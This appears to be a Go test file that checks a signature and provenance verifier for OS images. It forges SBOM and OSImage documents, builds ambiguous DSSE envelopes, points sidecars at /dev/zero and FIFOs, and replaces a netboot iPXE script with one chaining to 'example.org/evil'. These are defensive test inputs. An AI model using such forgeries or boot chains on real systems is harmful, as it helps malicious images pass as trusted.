package verify_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"runtime/metrics"
	"strings"
	"testing"
	"time"

	"github.com/socioprophet/sourceos/internal/attest"
	"github.com/socioprophet/sourceos/internal/attest/attesttest"
	"github.com/socioprophet/sourceos/internal/digest"
	"github.com/socioprophet/sourceos/internal/provenance"
	"github.com/socioprophet/sourceos/internal/sidecar"
	"github.com/socioprophet/sourceos/internal/verify"
)

// editJSON rewrites the JSON object in path through f.
func editJSON(t *testing.T, path string, f func(m map[string]any)) {
	t.Helper()
	var m map[string]any
	if err := json.Unmarshal(attesttest.ReadFile(t, path), &m); err != nil {
		t.Fatal(err)
	}
	f(m)
	b, err := json.MarshalIndent(m, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	attesttest.WriteFile(t, path, append(b, '\n'))
}

func member(m map[string]any, k string) map[string]any { return m[k].(map[string]any) }

// osImageForgeries change one claim of the OSImage document each, keeping
// it valid against the schema.
var osImageForgeries = []struct {
	name  string
	apply func(m map[string]any)
}{
	{"architecture", func(m map[string]any) { m["architecture"] = "aarch64" }},
	{"artifact kind", func(m map[string]any) { m["artifact"] = "qcow2" }},
	{"VERSION_ID", func(m map[string]any) { member(m, "osRelease")["VERSION_ID"] = "9.9.9" }},
	{"IMAGE_ID", func(m map[string]any) { member(m, "osRelease")["IMAGE_ID"] = "sourceos-server" }},
	{"IMAGE_VERSION", func(m map[string]any) { member(m, "osRelease")["IMAGE_VERSION"] = "9.9.9" }},
	{"BUILD_ID", func(m map[string]any) { member(m, "osRelease")["BUILD_ID"] = "build-666" }},
	{"channel", func(m map[string]any) { member(m, "ociAnnotations")["com.socioprophet.os.channel"] = "stable" }},
	{"image version", func(m map[string]any) { member(m, "ociAnnotations")["org.opencontainers.image.version"] = "9.9.9" }},
	{"revision", func(m map[string]any) {
		member(m, "ociAnnotations")["org.opencontainers.image.revision"] = strings.Repeat("f", 40)
	}},
	{"source", func(m map[string]any) {
		member(m, "ociAnnotations")["org.opencontainers.image.source"] = "https://example.org/fork"
	}},
}

// A document changed after signing fails the digest the signed predicate
// gives for it; its forged claims are named too.
func TestVerifyCatchesForgedDocuments(t *testing.T) {
	k := attesttest.NewKeys(t)
	type forgery struct {
		name   string
		change func(t *testing.T, iso string)
		want   []string // checks that must fail
	}
	forgeries := []forgery{
		{"SBOM component dropped", func(t *testing.T, iso string) {
			editJSON(t, iso+".sbom.json", dropComponent)
			if err := provenance.CheckSBOM(attesttest.ReadFile(t, iso+".sbom.json"), sha256Of(t, iso)); err != nil {
				t.Fatalf("the forged SBOM must be consistent on its own: %v", err)
			}
		}, []string{verify.CheckByproducts}},
		{"SBOM component replaced", func(t *testing.T, iso string) {
			editJSON(t, iso+".sbom.json", func(m map[string]any) {
				c := m["components"].([]any)[0].(map[string]any)
				c["name"], c["version"] = "openssl", "1.0.1f"
			})
		}, []string{verify.CheckByproducts}},
		{"SBOM deleted", func(t *testing.T, iso string) { remove(t, iso+".sbom.json") },
			[]string{verify.CheckByproducts, verify.CheckSBOM}},
		{"SBOM and its ref deleted", func(t *testing.T, iso string) {
			remove(t, iso+".sbom.json")
			editJSON(t, iso+".osimage.json", func(m map[string]any) { delete(member(m, "provenance"), "sbomRef") })
		}, []string{verify.CheckByproducts, verify.CheckOSImageRefs, verify.CheckSBOM}},
		{"OSImage deleted", func(t *testing.T, iso string) { remove(t, iso+".osimage.json") },
			[]string{verify.CheckByproducts, verify.CheckOSImageSchema}},
		{"checksum file forged", func(t *testing.T, iso string) {
			attesttest.WriteFile(t, iso+".sha256", []byte(strings.Repeat("0", 64)+"  "+attesttest.ISOName+"\n"))
		}, []string{verify.CheckSHA256File}},
		{"predicate file forged", func(t *testing.T, iso string) {
			b := strings.Replace(string(attesttest.ReadFile(t, iso+".slsa.json")), `"version": "1.2.3"`, `"version": "9.9.9"`, 1)
			attesttest.WriteFile(t, iso+".slsa.json", []byte(b))
		}, []string{verify.CheckSLSA}},
	}
	for _, f := range osImageForgeries {
		forgeries = append(forgeries, forgery{"OSImage " + f.name, func(t *testing.T, iso string) {
			editJSON(t, iso+".osimage.json", f.apply)
		}, []string{verify.CheckByproducts, verify.CheckOSImageClaims}})
	}
	for _, f := range forgeries {
		t.Run(f.name, func(t *testing.T) {
			iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
			attesttest.SignISO(t, k, iso)
			before := map[string][]byte{}
			for _, ext := range attesttest.AllSidecars {
				before[ext], _ = os.ReadFile(iso + ext)
			}
			f.change(t, iso)
			changed := false
			for _, ext := range attesttest.AllSidecars {
				after, _ := os.ReadFile(iso + ext)
				changed = changed || !bytes.Equal(before[ext], after)
			}
			if !changed {
				t.Fatal("the forgery changed nothing")
			}
			expectFailed(t, iso, k, f.want...)
		})
	}
}

// A document present beside the artifact but not listed in the signed
// predicate fails, and so does one listed by another name.
func TestVerifyCatchesUnlistedDocuments(t *testing.T) {
	k := attesttest.NewKeys(t)
	donor := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
	attesttest.SignISO(t, k, donor)

	iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
	attesttest.SignISO(t, k, iso, func(o *attest.Options) { o.Closure = nil })
	if _, err := os.Stat(iso + ".sbom.json"); !os.IsNotExist(err) {
		t.Fatalf("signed without a closure, yet an SBOM: %v", err)
	}
	if rep, err := attesttest.Verify(t, iso, k.Pub()); err != nil {
		t.Fatalf("%v\n%s", err, attesttest.ReportText(rep))
	}
	attesttest.WriteFile(t, iso+".sbom.json", attesttest.ReadFile(t, donor+".sbom.json"))
	expectFailed(t, iso, k, verify.CheckByproducts)

	kernel := attesttest.Artifact(t, t.TempDir(), "bzImage", 4096)
	if _, err := attest.Write(context.Background(), attest.Options{Kind: sidecar.Netboot,
		Artifacts: []sidecar.Artifact{{Path: kernel}}, Build: attesttest.BuildInfo("netboot"), SecretKey: k.Secret(), Now: attesttest.Clock}); err != nil {
		t.Fatal(err)
	}
	attesttest.WriteFile(t, kernel+".osimage.json", attesttest.ReadFile(t, donor+".osimage.json"))
	expectFailed(t, kernel, k, verify.CheckByproducts)
}

// resign makes the release beside iso consistent again after a forgery,
// as someone holding the key would: the predicate lists the documents as
// they now are, and the statement is signed anew. Only the check of the
// OSImage document's claims against the predicate can catch what is left.
func resign(t *testing.T, k attesttest.Keys, iso string) {
	t.Helper()
	var bps []provenance.Byproduct
	for _, doc := range []struct{ ext, mediaType string }{
		{".sbom.json", provenance.MediaTypeCycloneDX}, {".osimage.json", provenance.MediaTypeOSImage}} {
		sum := sha256.Sum256(attesttest.ReadFile(t, iso+doc.ext))
		bps = append(bps, provenance.Byproduct{Name: attesttest.ISOName + doc.ext, SHA256: hex.EncodeToString(sum[:]), MediaType: doc.mediaType})
	}
	pred, err := provenance.SLSAPredicate(attesttest.BuildInfo("iso"), bps...)
	if err != nil {
		t.Fatal(err)
	}
	d, err := digest.Reader(bytes.NewReader(attesttest.ReadFile(t, iso)))
	if err != nil {
		t.Fatal(err)
	}
	attesttest.WriteFile(t, iso+".slsa.json", pred)
	resignWithSubject(t, k, iso, provenance.Subject{Name: attesttest.ISOName, SHA256: d.SHA256Hex(), SHA512: d.SHA512Hex()})
}

func TestVerifyChecksOSImageClaimsAgainstSignedPredicate(t *testing.T) {
	k := attesttest.NewKeys(t)
	t.Run("re-signed unchanged", func(t *testing.T) {
		iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
		attesttest.SignISO(t, k, iso)
		resign(t, k, iso)
		if rep, err := attesttest.Verify(t, iso, k.Pub()); err != nil {
			t.Fatalf("resign does not reproduce what Sign writes: %v\n%s", err, attesttest.ReportText(rep))
		}
	})
	for _, f := range osImageForgeries {
		t.Run(f.name, func(t *testing.T) {
			iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
			attesttest.SignISO(t, k, iso)
			editJSON(t, iso+".osimage.json", f.apply)
			resign(t, k, iso)
			rep := expectFailed(t, iso, k, verify.CheckOSImageClaims)
			if got := attesttest.Status(rep, verify.CheckByproducts); got != verify.Pass {
				t.Errorf("byproducts check %s: the re-signed predicate lists the forged document, so only the claims check can catch it", got)
			}
		})
	}
}

// An envelope another parser would read differently is refused, even
// though the statement our parser would pick is the signed one.
func TestVerifyRefusesAmbiguousDSSE(t *testing.T) {
	k := attesttest.NewKeys(t)
	for name, rewrite := range map[string]func(env, forged string) string{
		"case-variant payload after": func(env, forged string) string {
			return strings.Replace(env, "\n}", ",\n  \"Payload\": \""+forged+"\"\n}", 1)
		},
		"case-variant payload before": func(env, forged string) string {
			return strings.Replace(env, `"payload":`, `"Payload": "`+forged+`", "payload":`, 1)
		},
		"duplicate payload": func(env, forged string) string {
			return strings.Replace(env, `"payload":`, `"payload": "`+forged+`", "payload":`, 1)
		},
		"unknown member": func(env, forged string) string {
			return strings.Replace(env, `"payload":`, `"statement": "`+forged+`", "payload":`, 1)
		},
	} {
		t.Run(name, func(t *testing.T) {
			iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
			attesttest.SignISO(t, k, iso)
			forged := strings.Replace(string(attesttest.ReadFile(t, iso+".intoto.json")), `"x86_64"`, `"aarch64"`, -1)
			env := string(attesttest.ReadFile(t, iso+".intoto.dsse.json"))
			bad := rewrite(env, base64.StdEncoding.EncodeToString([]byte(forged)))
			if bad == env {
				t.Fatal("rewrite changed nothing")
			}
			attesttest.WriteFile(t, iso+".intoto.dsse.json", []byte(bad))
			expectFailed(t, iso, k, verify.CheckDSSESignature)
		})
	}
}

// expectFailed verifies path and requires exit 1 with each of checks failed.
func expectFailed(t *testing.T, path string, k attesttest.Keys, checks ...string) *verify.Report {
	t.Helper()
	rep, err := attesttest.Verify(t, path, k.Pub())
	if verify.ExitCode(err) != verify.ExitFailed || rep.OK {
		t.Errorf("exit %d (%v), want %d", verify.ExitCode(err), err, verify.ExitFailed)
	}
	for _, c := range checks {
		if got := attesttest.Status(rep, c); got != verify.Fail {
			t.Errorf("check %q is %s, want fail", c, got)
		}
	}
	if t.Failed() {
		t.Logf("report:\n%s", attesttest.ReportText(rep))
	}
	return rep
}

// dropComponent removes the last component of an SBOM and every mention
// of it, so the SBOM stays consistent.
func dropComponent(m map[string]any) {
	comps := m["components"].([]any)
	gone := comps[len(comps)-1].(map[string]any)["bom-ref"]
	m["components"] = comps[:len(comps)-1]
	var deps []any
	for _, d := range m["dependencies"].([]any) {
		dep := d.(map[string]any)
		if dep["ref"] == gone {
			continue
		}
		var on []any
		for _, r := range asSlice(dep["dependsOn"]) {
			if r != gone {
				on = append(on, r)
			}
		}
		delete(dep, "dependsOn")
		if len(on) > 0 {
			dep["dependsOn"] = on
		}
		deps = append(deps, dep)
	}
	m["dependencies"] = deps
}

func asSlice(v any) []any {
	s, _ := v.([]any)
	return s
}

func sha256Of(t *testing.T, path string) string {
	t.Helper()
	sum := sha256.Sum256(attesttest.ReadFile(t, path))
	return hex.EncodeToString(sum[:])
}

func remove(t *testing.T, path string) {
	t.Helper()
	if err := os.Remove(path); err != nil {
		t.Fatal(err)
	}
}

// heapCeiling stops the test binary if the heap passes limit while the
// test runs, before a runaway read takes the machine's memory.
func heapCeiling(t *testing.T, limit uint64) {
	t.Helper()
	runtime.GC()
	done := make(chan struct{})
	t.Cleanup(func() { close(done) })
	go func() {
		s := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
		tick := time.NewTicker(2 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-done:
				return
			case <-tick.C:
			}
			if metrics.Read(s); s[0].Value.Uint64() > limit {
				panic(fmt.Sprintf("%s: heap passed %d MiB: verify reads without a bound", t.Name(), limit>>20))
			}
		}
	}()
}

// verifyWithin runs verify and fails the test if it has not returned
// within d (a FIFO opened for reading blocks until a writer comes).
func verifyWithin(t *testing.T, d time.Duration, path, pub string) (*verify.Report, error) {
	t.Helper()
	type result struct {
		rep *verify.Report
		err error
	}
	done := make(chan result, 1)
	go func() {
		rep, err := verify.Verify(context.Background(), verify.VerifyOptions{Artifact: path, PublicKey: pub})
		done <- result{rep, err}
	}()
	select {
	case r := <-done:
		return r.rep, r.err
	case <-time.After(d):
		t.Fatalf("verify %s did not return within %s", filepath.Base(path), d)
		return nil, nil
	}
}

// Verify reads regular files only, each within its size limit: a sidecar
// or artifact that is /dev/zero, a FIFO, or larger than its limit is a
// quick "could not verify" naming the file, in bounded memory.
func TestVerifyRefusesUnsafeFiles(t *testing.T) {
	k := attesttest.NewKeys(t)
	exts := []string{".sha256", ".minisig", ".intoto.json", ".intoto.dsse.json", ".slsa.json", ".sbom.json", ".osimage.json"}
	type tc struct {
		name   string
		change func(t *testing.T, iso string) string // returns the path to verify
		pub    func(iso string) string
		want   []string // in the report's error
	}
	var cases []tc
	for _, ext := range exts {
		cases = append(cases,
			tc{name: ext + " is /dev/zero", change: func(t *testing.T, iso string) string {
				remove(t, iso+ext)
				if err := os.Symlink("/dev/zero", iso+ext); err != nil {
					t.Fatal(err)
				}
				return iso
			}, want: []string{attesttest.ISOName + ext, "not a regular file", "character device"}},
			tc{name: ext + " is a FIFO", change: func(t *testing.T, iso string) string {
				remove(t, iso+ext)
				attesttest.Mkfifo(t, iso+ext)
				return iso
			}, want: []string{attesttest.ISOName + ext, "not a regular file", "FIFO"}},
			tc{name: ext + " is one byte over its limit", change: func(t *testing.T, iso string) string {
				if err := os.Truncate(iso+ext, sidecar.Limit(ext)+1); err != nil {
					t.Fatal(err)
				}
				return iso
			}, want: []string{attesttest.ISOName + ext, "limit"}},
		)
	}
	cases = append(cases,
		tc{name: "3 GiB SBOM", change: func(t *testing.T, iso string) string {
			if err := os.Truncate(iso+".sbom.json", 3<<30); err != nil {
				t.Fatal(err)
			}
			return iso
		}, want: []string{attesttest.ISOName + ".sbom.json", "3221225472 bytes, the limit is 64 MiB"}},
		tc{name: "artifact is a FIFO", change: func(t *testing.T, iso string) string {
			p := filepath.Join(filepath.Dir(iso), "fifo.iso")
			attesttest.Mkfifo(t, p)
			return p
		}, want: []string{"fifo.iso", "not a regular file", "FIFO"}},
		tc{name: "artifact is /dev/zero", change: func(t *testing.T, iso string) string {
			p := filepath.Join(filepath.Dir(iso), "zero.iso")
			if err := os.Symlink("/dev/zero", p); err != nil {
				t.Fatal(err)
			}
			return p
		}, want: []string{"zero.iso", "not a regular file"}},
		tc{name: "public key file is a FIFO", change: func(t *testing.T, iso string) string {
			attesttest.Mkfifo(t, iso+".pub")
			return iso
		}, pub: func(iso string) string { return iso + ".pub" }, want: []string{"public key file", "not a regular file"}},
	)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			iso := attesttest.Artifact(t, t.TempDir(), attesttest.ISOName, 4096)
			attesttest.SignISO(t, k, iso)
			target := c.change(t, iso)
			pub := k.Pub()
			if c.pub != nil {
				pub = c.pub(iso)
			}
			heapCeiling(t, 256<<20)
			start := time.Now()
			rep, err := verifyWithin(t, 10*time.Second, target, pub)
			if verify.ExitCode(err) != verify.ExitCannotVerify {
				t.Errorf("exit %d (%v), want %d\n%s", verify.ExitCode(err), err, verify.ExitCannotVerify, attesttest.ReportText(rep))
			}
			for _, w := range c.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
			if el := time.Since(start); el > 2*time.Second {
				t.Errorf("took %s", el)
			}
		})
	}
}

// The netboot manifest's signature covers the set: each file it lists must
// be beside it with its digest, and the manifest must describe the build
// the signed predicate records.
func TestNetbootSetTampering(t *testing.T) {
	k := attesttest.NewKeys(t)
	signSet := func(t *testing.T, b provenance.BuildInfo) []string {
		t.Helper()
		paths := attesttest.NetbootSet(t, t.TempDir(), b)
		var arts []sidecar.Artifact
		for _, p := range paths {
			arts = append(arts, sidecar.Artifact{Path: p})
		}
		if _, err := attest.Write(context.Background(), attest.Options{Kind: sidecar.Netboot, Artifacts: arts,
			Build: attesttest.BuildInfo("netboot"), SecretKey: k.Secret(), Now: attesttest.Clock}); err != nil {
			t.Fatal(err)
		}
		return paths
	}
	for name, tamper := range map[string]func(t *testing.T, paths []string){
		"iPXE script replaced": func(t *testing.T, paths []string) {
			attesttest.WriteFile(t, paths[2], []byte("#!ipxe\nchain http://example.org/evil\n"))
		},
		"iPXE script same size, other bytes": func(t *testing.T, paths []string) { attesttest.FlipByte(t, paths[2], 7) },
		"initrd missing":                     func(t *testing.T, paths []string) { remove(t, paths[1]) },
	} {
		t.Run(name, func(t *testing.T) {
			paths := signSet(t, attesttest.BuildInfo("netboot"))
			tamper(t, paths)
			expectFailed(t, paths[3], k, verify.CheckNetbootSet)
		})
	}
	t.Run("manifest for another edition, signed", func(t *testing.T) {
		b := attesttest.BuildInfo("netboot")
		b.Edition = "server"
		paths := signSet(t, b) // the predicate says desktop
		expectFailed(t, paths[3], k, verify.CheckNetbootSet)
	})
}
